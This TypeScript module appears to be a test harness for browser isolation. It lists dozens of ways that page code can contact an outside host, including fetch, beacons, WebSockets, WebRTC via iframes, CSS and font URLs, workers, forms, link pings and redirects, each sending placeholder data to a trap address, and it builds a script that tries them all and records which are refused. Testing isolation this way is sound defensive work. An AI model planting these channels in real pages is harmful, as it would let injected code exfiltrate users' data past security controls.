// Ways to speak to another host from within a page, each as a function that runs there: what foreign code would try.

/** `address` is the trap's, ending in the way's name; `outer` the trap's host and port for WebRTC. */
export type Plant = (address: string, outer: string) => unknown;

/** Attempts that leave the page where it is. */
export const quiet: Record<string, Plant> = {
  fetch: (address) => fetch(address, { method: "POST", body: "rows" }),
  "fetch later": (address) =>
    (globalThis as unknown as { fetchLater: (address: string, how: object) => void }).fetchLater(address, {
      activateAfter: 0,
    }),
  XMLHttpRequest: (address) => {
    const request = new XMLHttpRequest();
    request.open("POST", address);
    request.send("rows");
  },
  beacon: (address) => void navigator.sendBeacon(address, "rows"),
  WebSocket: (address) => void new WebSocket(address.replace("http", "ws")),
  EventSource: (address) => void new EventSource(address),
  image: (address) => document.body.append(Object.assign(new Image(), { src: address })),
  video: (address) => document.body.append(Object.assign(document.createElement("video"), { src: address })),
  poster: (address) => document.body.append(Object.assign(document.createElement("video"), { poster: address })),
  audio: (address) => void new Audio(address).load(),
  track: (address) => {
    const video = document.createElement("video");
    video.append(Object.assign(document.createElement("track"), { src: address, default: true }));
    document.body.append(video);
  },
  object: (address) => document.body.append(Object.assign(document.createElement("object"), { data: address })),
  embed: (address) => document.body.append(Object.assign(document.createElement("embed"), { src: address })),
  frame: (address) => document.body.append(Object.assign(document.createElement("iframe"), { src: address })),
  "an empty frame's fetch": (address) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    return frame.contentWindow?.fetch(address);
  },
  "an empty frame's picture": (address) => {
    const inner = document.body.appendChild(document.createElement("iframe")).contentDocument;
    inner?.body.append(Object.assign(inner.createElement("img"), { src: address }));
  },
  "an empty frame's WebRTC": (_, outer) => {
    const inner = document.body.appendChild(document.createElement("iframe")).contentWindow;
    const call = new (inner as unknown as typeof globalThis).RTCPeerConnection({
      iceServers: [{ urls: `stun:${outer}` }],
    });
    call.createDataChannel("rows");
    return call.createOffer().then((offer) => call.setLocalDescription(offer));
  },
  "a frame of another name": (address) => {
    const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe") as HTMLIFrameElement;
    document.body.append(Object.assign(frame, { src: address }));
  },
  "a frame from a document of its own": (address) => {
    const frame = document.implementation.createHTMLDocument().createElement("iframe");
    document.body.append(Object.assign(document.adoptNode(frame), { src: address }));
  },
  "a frame as a custom element": (address) => {
    class Frame extends HTMLIFrameElement {}
    customElements.define("x-frame", Frame, { extends: "iframe" });
    document.body.append(Object.assign(new Frame(), { src: address }));
  },
  "style sheet": (address) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: address })),
  prefetch: (address) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: address })),
  modulepreload: (address) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "modulepreload", href: address })),
  icon: (address) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: address })),
  "speculation rules": (address) => {
    const script = Object.assign(document.createElement("script"), { type: "speculationrules" });
    script.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [address] }] });
    document.head.append(script);
  },
  "CSS background": (address) => {
    document.body.style.backgroundImage = `url(${address})`;
  },
  "CSS rule": (address) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(
      `main, body { list-style: url(${address}); cursor: url(${address}-cursor), auto; border-image: url(${address}) 1 }`,
    );
    document.adoptedStyleSheets = [sheet];
  },
  font: (address) => new FontFace("planted", `url(${address})`).load(),
  "SVG image": (address) => {
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
    image.setAttribute("href", address);
    svg.append(image);
    document.body.append(svg);
  },
  "SVG filter image": (address) => {
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const image = document.createElementNS("http://www.w3.org/2000/svg", "feImage");
    image.setAttribute("href", address);
    svg.append(image);
    document.body.append(svg);
  },
  "import of a script": (address) => import(address),
  "a worker from there": (address) => void new SharedWorker(address),
  "a paint worklet": (address) =>
    (CSS as unknown as { paintWorklet: { addModule: (address: string) => Promise<void> } }).paintWorklet.addModule(
      address,
    ),
  "fetch in a worker": (address) =>
    void new Worker(URL.createObjectURL(new Blob([`fetch("${address}")`], { type: "text/javascript" }))),
  "importScripts in a worker": (address) =>
    void new Worker(URL.createObjectURL(new Blob([`importScripts("${address}")`], { type: "text/javascript" }))),
  "a service worker from there": (address) => navigator.serviceWorker.register(address),
  "a payment method": (address) =>
    new PaymentRequest([{ supportedMethods: address }], {
      total: { label: "rows", amount: { currency: "USD", value: "1" } },
    }).canMakePayment(),
  base: (address) => {
    document.head.prepend(Object.assign(document.createElement("base"), { href: `${address}/` }));
    document.body.append(Object.assign(new Image(), { src: "rows.png" }));
  },
  WebRTC: (_, outer) => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${outer}` }] });
    call.createDataChannel("rows");
    return call.createOffer().then((offer) => call.setLocalDescription(offer));
  },
};

/** Attempts that open another page, or move this one; without walls each needs a page of its own. */
export const moving: Record<string, Plant> = {
  "form by POST": (address) => {
    const form = Object.assign(document.createElement("form"), { method: "post", action: address });
    document.body.appendChild(form).submit();
  },
  "form by GET": (address) => {
    const form = Object.assign(document.createElement("form"), { method: "get", action: address });
    document.body.appendChild(form).requestSubmit();
  },
  "form into a new tab": (address) => {
    const form = Object.assign(document.createElement("form"), { method: "post", action: address, target: "_blank" });
    document.body.appendChild(form).submit();
  },
  "form by its button": (address) => {
    const form = document.body.appendChild(document.createElement("form"));
    const button = Object.assign(document.createElement("button"), { formAction: address, formTarget: "_blank" });
    form.appendChild(button).click();
  },
  link: (address) => document.body.appendChild(Object.assign(document.createElement("a"), { href: address })).click(),
  "link to a new tab": (address) =>
    document.body.appendChild(Object.assign(document.createElement("a"), { href: address, target: "_blank" })).click(),
  "link that is in no page": (address) => Object.assign(document.createElement("a"), { href: address }).click(),
  "link in no page, to a new tab": (address) =>
    Object.assign(document.createElement("a"), { href: address, target: "_blank" }).click(),
  "link by an event": (address) => {
    const link = Object.assign(document.createElement("a"), { href: address, target: "_blank" });
    link.dispatchEvent(new MouseEvent("click"));
  },
  "what is in a link": (address) => {
    const link = Object.assign(document.createElement("a"), { href: address, target: "_blank" });
    link.appendChild(document.createElement("span")).click();
  },
  "link in a closed shadow": (address) => {
    const host = document.body.appendChild(document.createElement("div"));
    const link = Object.assign(document.createElement("a"), { href: address, target: "_blank" });
    host.attachShadow({ mode: "closed" }).appendChild(link).click();
  },
  "link that saves": (address) =>
    Object.assign(document.createElement("a"), { href: address, download: "rows" }).click(),
  "link with ping": (address) =>
    document.body.appendChild(Object.assign(document.createElement("a"), { href: "#/", ping: address })).click(),
  area: (address) =>
    document.body.appendChild(Object.assign(document.createElement("area"), { href: address })).click(),
  "area to a new tab": (address) =>
    document.body
      .appendChild(Object.assign(document.createElement("area"), { href: address, target: "_blank" }))
      .click(),
  "SVG link": (address) => {
    const link = document.createElementNS("http://www.w3.org/2000/svg", "a");
    link.setAttribute("href", address);
    link.setAttribute("target", "_blank");
    document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg")).append(link);
    link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  },
  "SVG link, the old way": (address) => {
    const link = document.createElementNS("http://www.w3.org/2000/svg", "a");
    link.setAttributeNS("http://www.w3.org/1999/xlink", "xlink:href", address);
    document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg")).append(link);
    link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  },
  "new window": (address) => void globalThis.open(address),
  "new window by the document": (address) => void document.open(address, "_blank", ""),
  "an empty window's picture": (address) => {
    const other = globalThis.open("about:blank");
    other?.document.body.append(Object.assign(other.document.createElement("img"), { src: address }));
  },
  "an empty frame's window": (address) =>
    void document.body.appendChild(document.createElement("iframe")).contentWindow?.open(address),
  "an empty frame's link": (address) => {
    const inner = document.body.appendChild(document.createElement("iframe")).contentDocument;
    inner?.body.appendChild(Object.assign(inner.createElement("a"), { href: address, target: "_top" })).click();
  },
  "a move": (address) => {
    globalThis.location.href = address;
  },
  "a replacement": (address) => globalThis.location.replace(address),
  "a move by navigation": (address) =>
    void (globalThis as unknown as { navigation: { navigate: (address: string) => void } }).navigation.navigate(
      address,
    ),
  refresh: (address) =>
    document.head.append(
      Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${address}` }),
    ),
};

/** Nothing of these can be heard by a host: that the page has no such thing is what is tried. */
export const unheard: Record<string, Plant> = {
  preconnect: (address) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: address })),
  "DNS prefetch": () =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: "//rows.test" })),
  WebTransport: (address) => void new WebTransport(address.replace("http:", "https:")),
  "SVG use": (address) => {
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const use = document.createElementNS("http://www.w3.org/2000/svg", "use");
    use.setAttribute("href", `${address}#rows`);
    svg.append(use);
    document.body.append(svg);
  },
};

/** As a path, so that the trap can tell which way it came. */
export const pathOf = (way: string) => `/${way.replace(/[^a-z]/gi, "-")}`;

/** Starts every way at once in the page; what each came to is noted there under `planted`. */
export function sourceOf(ways: Record<string, Plant>, address: string, outer: string): string {
  const lines = Object.entries(ways).map(
    ([way, plant]) => `start(${JSON.stringify(way)}, ${plant}, ${JSON.stringify(address + pathOf(way))})`,
  );
  return `(() => {
    const seen = (globalThis.planted ??= {});
    const start = async (way, plant, to) => {
      try {
        seen[way] = "started";
        seen[way] = (await plant(to, ${JSON.stringify(outer)})) instanceof Response ? "sent" : "done";
      } catch {
        seen[way] = "refused";
      }
    };
    ${lines.join(";\n")};
  })()`;
}
